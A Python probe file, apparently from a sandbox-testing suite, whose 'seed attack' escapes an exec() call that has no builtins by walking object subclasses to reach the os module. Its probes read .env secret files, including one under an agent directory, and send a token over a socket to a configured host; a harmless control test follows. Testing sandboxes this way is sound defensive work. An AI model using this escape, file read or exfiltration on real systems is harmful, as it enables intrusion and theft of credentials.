"""The seed attack: text that runs with no builtin and no module finds its way to the operating system."""

from probe import FACTS, probe, twin

TEXT = """
classes = ().__class__.__bases__[0].__subclasses__()
os = [c for c in classes if c.__name__ == "_wrap_close"][0].__init__.__globals__
RESULT = {"os": os}
"""


def escape():
    scope = {"__builtins__": {}}
    exec(TEXT, scope)
    return scope["RESULT"]["os"]


@probe("the operating system, from inside of the language", "")
def _():
    # That the language does not hold is the same everywhere: what counts is what the machine gives then.
    os = escape()
    stream = os["popen"]("id -u; cat " + FACTS["home"] + "/.env /agent/up/.env 2>/dev/null; uname -r")
    text = stream.read()
    return ", ".join(f for f in ("secret", "release") if FACTS[f] in text)


@probe("what it finds, sent to the metadata service and to the host")
def _():
    os = escape()
    script = (
        "import socket; s = socket.create_connection(('{host4}', {port}), 3); s.send(b'{token}:seed;')"
    ).format(**FACTS)
    return os["system"](f'python3 -c "{script}"') == 0 and "seed"


@twin("threads, a subprocess and a file")
def _():
    import subprocess
    import threading

    seen = []
    thread = threading.Thread(target=lambda: seen.append(subprocess.check_output(["echo", "hello"])))
    thread.start()
    thread.join()
    with open("/tmp/result", "w") as file:
        file.write("done")
    return seen == [b"hello\n"] and open("/tmp/result").read() == "done"
